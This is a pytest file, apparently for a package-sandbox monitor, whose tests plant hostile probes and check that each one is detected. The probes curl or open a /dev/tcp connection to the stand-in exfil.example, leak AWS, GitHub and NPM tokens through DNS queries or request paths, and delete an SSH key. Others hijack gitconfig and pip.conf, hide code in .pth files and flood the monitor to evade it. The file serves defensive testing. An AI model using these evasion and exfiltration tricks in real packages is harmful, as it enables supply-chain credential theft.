"""A package can't do unseen what the kernel witness is there to see: in disguise, by flooding it,
or as pip."""

from pathlib import Path

import pytest
from conftest import Snakehook, Triage
from hostile import (
    ONCE,
    PROBES,
    add_probe,
    assert_nothing_is_left,
    findings,
    in_one_jail,
    own_phase,
    own_phases,
    targets,
)
from standins import Index

from jail.watch.events import MAX_EVENTS
from jail.watch.record import MAX_SUBJECTS


def test_a_program_that_a_thread_starts_is_seen(triage: Triage, index: Index) -> None:
    """execve by a thread that is not the first takes over the first one's number."""
    source = """
import threading
if (pid := os.fork()) == 0:
    words = ["sh", "-c", "curl http://exfil.example/; exit 0"]
    threading.Thread(target=os.execv, args=("/bin/sh", words)).start()
    __import__('select').select([], [], [], 60)
os.waitpid(pid, 0)
"""
    add_probe(index, source)
    _, report, _ = triage("probe", *in_one_jail())
    assert any("exfil.example" in title for title in findings(report, "process.spawn")), report[
        "findings"
    ]
    # What is not shown of such a program, its C library's first call, hides nothing.
    assert not findings(report, "evidence.tamper")


def test_a_command_with_a_mebibyte_of_arguments_is_seen(triage: Triage, index: Index) -> None:
    source = """
padding = ["x" * 4096] * 400
if (pid := os.fork()) == 0:
    os.execv("/bin/sh", ["sh", "-c", "exec 3<>/dev/tcp/exfil.example/80; exit 0", *padding])
os.waitpid(pid, 0)
"""
    add_probe(index, source)
    _, report, _ = triage("probe", *in_one_jail())
    assert any("exfil.example" in title for title in findings(report, "process.spawn")), report[
        "findings"
    ]


@pytest.mark.parametrize(
    "disguise",
    [
        'os.execv("/bin/sh", ["sh", "-c", COMMAND])',
        'os.execve(sys.executable, ["gcc", "-c", CODE], {"PYTHONHOME": sys.base_prefix})',
        'os.execv(sys.executable, [sys.executable, "-c", CODE, "/pip/__pip-runner__.py"])',
    ],
    ids=["as a tool of pip's", "as a compiler", "as pip once more"],
)
def test_a_build_that_turns_into_another_program_is_not_taken_for_pip(
    triage: Triage, index: Index, disguise: str
) -> None:
    code = "import socket; s = socket.socket(); s.connect_ex(('192.0.2.77', 80))"
    prelude = f"""
CODE = {code!r}
COMMAND = sys.executable + ' -c "' + CODE + '"'
{disguise}
"""
    index.add_backend_sdist("turncoat", "1.0", PROBES + prelude, {"turncoat.py": ""})
    _, report, _ = triage("turncoat")
    assert "192.0.2.77:80" in targets(report), (report["network"], report["findings"])
    assert findings(report, "process.spawn")


def test_a_second_address_of_one_system_call_is_seen(triage: Triage, index: Index) -> None:
    source = """
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]
class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint32),
                ("iov", ctypes.POINTER(iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int), ("count", ctypes.c_uint32), ("pad", ctypes.c_uint32)]
vector = iovec(b"x", 1)
def message(host):
    address = struct.pack("=H", 2) + struct.pack(">H", 53) + socket.inet_aton(host) + bytes(8)
    return msghdr(address, 16, ctypes.pointer(vector), 1, None, 0, 0, 0, 0)
both = (msghdr * 2)(message("127.0.0.1"), message("192.0.2.78"))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
    print(libc.sendmmsg(udp.fileno(), both, 2, 0), ctypes.sizeof(msghdr))
"""
    add_probe(index, source)
    _, report, _ = triage("probe", *in_one_jail())
    assert "192.0.2.78:53" in targets(report), report["network"]


def test_who_keeps_the_resolver_waiting_is_seen(triage: Triage, index: Index) -> None:
    source = """
question = b"id\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7exfil-1\\0\\0\\1\\0\\1"
with socket.create_connection(("127.0.0.1", 53)) as sock:
    __import__('select').select([], [], [], 1.5)
    sock.sendall(len(question).to_bytes(2, "big") + question)
"""
    add_probe(index, source)
    _, report, _ = triage("probe", *in_one_jail())
    assert targets(report, ("dns",)) == {"(malformed question)"}


def test_a_requirement_that_leads_pip_elsewhere_is_seen(triage: Triage, index: Index) -> None:
    index.add_wheel(
        "probe",
        "1.0",
        {"probe.py": ""},
        requires=["stage-two @ https://exfil.example/stage_two-1.0.zip"],
    )
    code, report, _ = triage("probe")
    assert (code, report["outcome"]) == (1, "failed"), report["reason"]
    assert "exfil.example" in targets(report, ("dns",))


@pytest.mark.skipif(not Path("/usr/bin/git").exists(), reason="pip needs git to be led to it")
def test_what_git_starts_for_a_requirement_is_not_pip_s_own(triage: Triage, index: Index) -> None:
    """Its command is the package's: a build can write a .gitconfig before pip comes to the
    requirements."""
    backend = """
with open("/home/dev/.gitconfig", "w") as file:
    file.write('[protocol "ext"]\\nallow = always\\n')
    file.write('[url "ext::curl http://exfil.example/"]\\n')
    file.write("insteadOf = https://somewhere.example/\\n")
"""
    index.add_wheel("probe", "1.0", {"probe.py": ""}, requires=["a-build", "b-requirement"])
    index.add_backend_sdist("a-build", "1.0", backend, {"a_build.py": ""})
    stage_two = "stage-two @ git+https://somewhere.example/stage-two"
    index.add_wheel("b-requirement", "1.0", {"b_requirement.py": ""}, requires=[stage_two])
    code, report, _ = triage("probe")
    assert (code, report["outcome"]) == (1, "failed"), report["reason"]
    assert any("curl" in title for title in findings(report, "process.spawn")), report["findings"]


def test_what_is_deleted_by_way_of_pip_s_folder_is_seen(triage: Triage, index: Index) -> None:
    backend = """
import os
os.makedirs("/tmp/pip-x", exist_ok=True)
open("/home/dev/mark", "w").close()
os.remove("/tmp/pip-x/../../home/dev/mark")
"""
    index.add_backend_sdist("probe", "1.0", backend, {"probe.py": ""})
    _, report, _ = triage("probe")
    assert ("/home/dev/mark", "deleted") in {
        (file["path"], file["change"]) for file in report["files"]
    }


def test_deleting_by_a_folder_s_descriptor_is_seen(triage: Triage, index: Index) -> None:
    source = """
home = os.open("/home/dev", os.O_RDONLY)
open("/home/dev/pip-evidence", "w").close()
os.unlink("pip-evidence", dir_fd=home)
os.unlink("/home/dev/.ssh/id_rsa")
"""
    add_probe(index, source)
    _, report, _ = triage("probe", *in_one_jail())
    assert any(
        file["path"] == "/home/dev/.ssh/id_rsa" and file["change"] == "deleted"
        for file in report["files"]
    )
    assert any("pip-evidence" in file["path"] for file in report["files"]), report["files"]


# One more than there is room for, of each kind of event.
MANY = MAX_EVENTS + MAX_SUBJECTS + 50

FLOODS = {
    "connections to this machine hide none to another": (
        """
for port in range(1, MANY):
    with socket.socket() as sock: sock.connect_ex(("127.0.0.1", port))
with socket.socket() as sock: sock.connect_ex(("192.0.2.80", 443))
""",
        ("network.attempt", "192.0.2.80:443"),
    ),
    "programs that are not there hide none that is": (
        """
for number in range(MANY):
    try: os.execv(f"/nowhere/{number}", [str(number)])
    except OSError: pass
os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", "curl http://exfil.example/"])
""",
        ("process.spawn", "exfil.example"),
    ),
    "questions for one name hide none for another": (
        """
for number in range(MANY):
    with socket.socket(type=socket.SOCK_DGRAM) as sock:
        question = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4same\\7example\\0\\0\\1\\0\\1"
        sock.sendto(question, ("127.0.0.1", 53))
        sock.recv(100)
try: socket.getaddrinfo("other.example", 80)
except OSError: pass
""",
        ("network.attempt", "other.example"),
    ),
    "files hide none that lasts": (
        """
for number in range(MANY): open(f"/home/dev/.a{number:04}", "w").close()
open("/home/dev/.bashrc", "w").write("kept")
""",
        ("persistence.write", "/home/dev/.bashrc"),
    ),
    "deleted files hide none that lasted": (
        """
for number in range(MANY):
    open(f"/tmp/a{number}", "w").close()
    os.unlink(f"/tmp/a{number}")
open("/home/dev/.bashrc", "w").write("kept")
os.unlink("/home/dev/.bashrc")
""",
        ("persistence.write", "/home/dev/.bashrc"),
    ),
    "packets hide no secret in a command": (
        """
with socket.socket(type=socket.SOCK_DGRAM) as sock:
    for number in range(2 * MANY): sock.sendto(bytes(4000), ("127.0.0.1", 9))
if os.fork() == 0: os.execv("/bin/true", ["true", os.environ["NPM_TOKEN"]])
os.wait()
""",
        ("secret.read", "passes on NPM_TOKEN in command"),
    ),
    "generated code hides none that was decoded": (
        """
import base64
for number in range(MANY): exec(f"x = {number}")
def decode(): exec(base64.b64decode(b"aGlkZGVuID0gMQ=="))
decode()
""",
        ("code.dynamic", "decoded"),
    ),
}


@pytest.mark.parametrize("what", FLOODS)
def test_no_flood_of_the_common_hides_the_rare(triage: Triage, index: Index, what: str) -> None:
    source, (rule, words) = FLOODS[what]
    add_probe(index, ONCE + source.replace("MANY", str(MANY)))
    _, report, _ = triage("probe", "--mode", "import")
    assert report["outcome"] == "ok", (report["reason"], own_phase(report)["stderr"]["text"])
    found = [
        finding
        for finding in report["findings"]
        if finding["rule"] == rule and words in finding["title"]
    ]
    assert found and {finding["severity"] for finding in found} == {"high"}, report["findings"][:20]
    if "same" not in source:  # nothing was left out
        # Code that is made at one line is told once: that the rest was not kept is a note.
        told = findings(report, "limit.hit") or rule == "code.dynamic"
        assert told, report["findings"][:20]
        assert report["coverage"]["dropped_events"]


PROGRAMS = {
    "the first program itself": (
        'os.execv("/bin/sh", ["sh", "-c", "exit 0 # took over"])',
        "# took over",
        "medium",
    ),
    "a name that is not its own": (
        'os.spawnv(os.P_WAIT, "/usr/bin/base64", ["gcc", "--version"])',
        "/usr/bin/base64 as gcc",
        "high",
    ),
    "a file in memory": (
        """
fd = os.memfd_create("x")
os.write(fd, open("/bin/true", "rb").read())
if os.fork() == 0: os.execve(fd, ["memory", "--flag"], {})
os.wait()
""",
        "memory --flag",
        "high",
    ),
    "a descriptor by path": (
        """
fd = os.memfd_create("x", 0)
os.write(fd, open("/bin/true", "rb").read())
if os.fork() == 0: os.execv(f"/proc/self/fd/{fd}", ["by-path"])
os.wait()
""",
        "as by-path",
        "high",
    ),
    "a copy under a relative path": (
        """
import shutil
os.chdir("/tmp"); shutil.copy("/bin/true", "here")
os.spawnv(os.P_WAIT, "here", ["here", "--flag"])
""",
        "here --flag",
        "high",
    ),
    "vfork and a bare system call": (
        """
if libc.syscall(57) == 0:
    words = (ctypes.c_char_p * 3)(b"true", b"bare", None)
    libc.syscall(59, b"/bin/true", words, None)
os.wait()
""",
        "true bare",
        "medium",
    ),
}


@pytest.mark.parametrize("how", PROGRAMS)
def test_a_program_is_seen_for_what_it_is(triage: Triage, index: Index, how: str) -> None:
    source, words, severity = PROGRAMS[how]
    add_probe(index, source)
    _, report, _ = triage("probe", *in_one_jail())
    found = [
        finding
        for finding in report["findings"]
        if finding["rule"] == "process.spawn" and words in finding["title"]
    ]
    assert [finding["severity"] for finding in found] == [severity], (
        report["findings"],
        own_phase(report)["stderr"],
    )
    hidden = [title for title in findings(report, "witness.hidden") if words in title]
    assert bool(hidden) == ("bare" in how)  # by any other way Python's own witness has seen it, too


def test_threads_act_in_the_name_of_their_process(triage: Triage, index: Index) -> None:
    source = """
import threading
def act(number):
    with socket.socket() as sock: sock.connect_ex((f"192.0.2.{number}", 443))
threads = [threading.Thread(target=act, args=(number,)) for number in range(1, 9)]
for thread in threads: thread.start()
for thread in threads: thread.join()
"""
    add_probe(index, source)
    _, report, _ = triage("probe", *in_one_jail())
    assert targets(report) == {f"192.0.2.{number}:443" for number in range(1, 9)}
    assert all(attempt["witness"] == ["kernel", "python"] for attempt in report["network"]), report[
        "network"
    ]
    assert not findings(report, "witness.hidden") and not findings(report, "evidence.tamper")
    own = [process for process in report["processes"] if process["phase"] == "execute"]
    assert len(own) == 2  # threads are none


def test_each_event_names_the_trigger_that_brought_it_about(triage: Triage, index: Index) -> None:
    act = "import subprocess; subprocess.run(['true', __name__])\n"
    act += "open('/home/dev/.bash_' + __name__, 'w').close()\n"
    index.add_wheel("several", "1.0", {f"module_{n}.py": act for n in range(3)})
    _, report, _ = triage("several", "--mode", "import")
    for name in ("module_0", "module_1", "module_2"):
        for items in (report["findings"], report["files"], report["processes"]):
            mine = {item["trigger"] for item in items if name in str(item)}
            # The jails that import them all again do it again.
            again = {"all modules", "as windows", "as macos", "as ci, later"}
            assert name in mine and mine - {name} <= again, items
        pids = [process["pid"] for process in report["processes"] if process["trigger"] == name]
        assert len(pids) == 3, report["processes"]  # the launcher, the Python, the command


def test_a_build_that_sets_up_the_pip_after_it_is_not_taken_for_pip(
    triage: Triage, index: Index
) -> None:
    source = """
def get_requires_for_build_wheel(config_settings=None):
    os.makedirs("/home/dev/.config/pip", exist_ok=True)
    with open("/home/dev/.config/pip/pip.conf", "w") as file:
        file.write("[global]\\npython = /home/dev/gcc\\n")
    with open("/home/dev/gcc", "w") as file:
        file.write("#!/bin/sh\\ncurl http://exfil.example/\\nexit 0\\n")
    os.chmod("/home/dev/gcc", 0o755)
    return ["helper"]
"""
    index.add_wheel("helper", "1.0", {"helper.py": ""})
    index.add_backend_sdist("planner", "1.0", "import os\n" + source, {"planner.py": ""})
    _, report, _ = triage("planner")
    assert report["outcome"] == "ok", report["reason"]  # the plan did not work
    assert any("pip.conf" in title for title in findings(report, "persistence.write"))
    assert not any("curl" in " ".join(process["argv"]) for process in report["processes"])


def test_what_git_does_for_a_requirement_is_told(triage: Triage, index: Index) -> None:
    index.add_wheel(
        "outer", "1.0", {"outer.py": ""}, requires=["inner @ git+https://exfil.example/inner"]
    )
    _, report, _ = triage("outer", RUN_TIMEOUT_SEC=20)
    assert any("git" in title for title in findings(report, "process.spawn")), report["findings"]


def test_a_host_that_pip_is_sent_to_is_told(triage: Triage, index: Index) -> None:
    link = "inner @ https://exfil.example/inner-1.0-py3-none-any.whl"
    index.add_wheel("outer", "1.0", {"outer.py": ""}, requires=[link])
    _, report, _ = triage("outer", RUN_TIMEOUT_SEC=20)
    assert any("exfil.example" in title for title in findings(report, "network.attempt")), report[
        "findings"
    ]


def test_a_build_s_program_with_a_compiler_s_name_is_no_compiler(
    triage: Triage, index: Index
) -> None:
    prelude = """
import shutil, subprocess
shutil.copy('/bin/true', '/tmp/gcc')
subprocess.run(['/tmp/gcc', 'steal'])
"""
    index.add_backend_sdist("compiling", "1.0", prelude, {"compiling.py": ""})
    _, report, _ = triage("compiling")
    spawned = [
        finding
        for finding in report["findings"]
        if finding["rule"] == "process.spawn" and "steal" in finding["title"]
    ]
    assert [finding["severity"] for finding in spawned] == ["medium"]


UNSEEN = {
    "a datagram to an address of no family": (
        """
libc.sendto.argtypes = None
address = struct.pack("=H", 0) + struct.pack(">H", 53) + socket.inet_aton("192.0.2.9") + bytes(8)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
    libc.sendto(udp.fileno(), b"stolen", 6, 0, address, 16)
""",
        "network.attempt",
        "192.0.2.9:53",
    ),
    "a folder that nobody may read": (
        """
os.makedirs("/home/dev/.local/bin")
with open("/home/dev/.local/bin/sudo", "w") as file: file.write("evil")
os.chmod("/home/dev/.local/bin", 0)
os.chmod("/home/dev/.local", 0)
""",
        "persistence.write",
        "/home/dev/.local/bin/sudo",
    ),
    "a .pth file that hides its line behind a million others": (
        """
site = os.path.dirname(os.path.abspath(__file__))
with open(site + "/fat.pth", "w") as file: file.write("#" * 99 + "\\n")
with open(site + "/fat.pth", "a") as file: file.write(("#" * 99 + "\\n") * 11_000 + "import os\\n")
""",
        "pth.code",
        "fat.pth",
    ),
    "a decoy among two thousand names": (
        """
for n in range(2100):
    try: socket.gethostbyname(f"n{n}.example")
    except OSError: pass
value = os.environ["AWS_SECRET_ACCESS_KEY"]
try: socket.gethostbyname(f"{value[:20]}.{value[20:]}.exfil.example")
except OSError: pass
""",
        "secret.read",
        "AWS_SECRET_ACCESS_KEY",
    ),
}


@pytest.mark.parametrize(("source", "rule", "words"), UNSEEN.values(), ids=UNSEEN)
def test_what_is_done_by_an_odd_way_is_told_all_the_same(
    triage: Triage, index: Index, source: str, rule: str, words: str
) -> None:
    add_probe(index, source)
    _, report, _ = triage("probe", *in_one_jail())
    assert report["outcome"] == "ok", report["reason"]
    assert any(words in title for title in findings(report, rule)), report["findings"]


def test_an_ordinary_user_s_watch_sees_past_a_folder_that_nobody_may_read(
    ordinary: Snakehook, index: Index
) -> None:
    """Its jail's processes are the same user as it, and it has no capability to see past modes."""
    source, rule, words = UNSEEN["a folder that nobody may read"]
    add_probe(index, source)
    _, report, _ = ordinary.triage("probe", *in_one_jail())
    assert any(words in title for title in findings(report, rule)), report["findings"]
    assert not any("looked" in note for note in report["coverage"]["notes"])
    assert_nothing_is_left(ordinary.state, ordinary.cache)


def test_a_module_named_like_one_of_the_library_does_not_stand_for_it(
    triage: Triage, index: Index
) -> None:
    deaf = "raise SystemExit('this is not the library')\n"
    source = "import base64\nexec(base64.b64decode('cHJpbnQoImRlY29kZWQiKQ=='))\n"
    index.add_wheel(
        "probe", "1.0", {"probe.py": source, "json.py": deaf, "enum.py": deaf, "typing.py": deaf}
    )
    _, report, _ = triage("probe", *in_one_jail())
    assert (report["outcome"], report["phases"][-1]["stdout"]["text"]) == ("ok", "decoded\n"), (
        report["phases"][-1]
    )
    assert findings(report, "code.dynamic")


def test_the_hook_is_made_of_the_library_whatever_the_path_says(
    triage: Triage, index: Index
) -> None:
    source = """
import subprocess
os.mkdir("/tmp/path")
with open("/tmp/path/json.py", "w") as file: file.write("raise ImportError")
code = "import base64; exec(base64.b64decode('cHJpbnQoImRlY29kZWQiKQ=='))"
subprocess.run([sys.executable, "-c", code], env={"PYTHONPATH": "/tmp/path", "HOME": "/home/dev"})
"""
    add_probe(index, source)
    _, report, _ = triage("probe", *in_one_jail())
    assert "decoded" in own_phase(report)["stdout"]["text"], own_phase(report)
    assert findings(report, "code.dynamic")


def test_a_sitecustomize_that_is_installed_is_told(triage: Triage, index: Index) -> None:
    index.add_wheel(
        "probe", "1.0", {"probe.py": "", "sitecustomize.py": "print('at every start')\n"}
    )
    _, report, _ = triage("probe", "--mode", "import")
    printed = [phase["stdout"]["text"] for phase in own_phases(report)]
    assert printed == ["at every start\n"] * 2
    assert any("sitecustomize.py" in title for title in findings(report, "pth.code"))


def test_a_decoy_s_value_does_not_get_to_the_index(triage: Triage, index: Index) -> None:
    prelude = """
import os, socket
def ask(word):
    with socket.create_connection(("127.0.0.1", 3141)) as sock:
        os.write(sock.fileno(), b"GET /simple/x" + word.encode() + b"/ HTTP/1.1\\r\\n\\r\\n")
        sock.recv(100)
ask(os.environ["AWS_SECRET_ACCESS_KEY"])
ask(os.environ["GITHUB_TOKEN"].lower().replace("_", "-"))  # as pip writes names
"""
    index.add_backend_sdist("telling", "1.0", prelude, {"telling.py": ""})
    _, report, _ = triage("telling")
    told = " ".join(findings(report, "secret.read"))
    assert "AWS_SECRET_ACCESS_KEY" in told
    assert "GITHUB_TOKEN" in told
    assert not [path for _, path in index.requests if path.startswith("/simple/x")]


def test_what_waits_for_the_end_of_the_phase_is_told(triage: Triage, index: Index) -> None:
    source = """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 3)
        __import__('select').select([], [], [], 60)
        socket.socket().connect_ex(("192.0.2.1", 443))
    os._exit(0)
"""
    add_probe(index, source)
    _, report, _ = triage("probe", *in_one_jail())
    assert findings(report, "limit.hit") == [
        "left 1 processes at work, which were ended with the phase"
    ]
    assert any("waiting" in note for note in report["coverage"]["notes"])
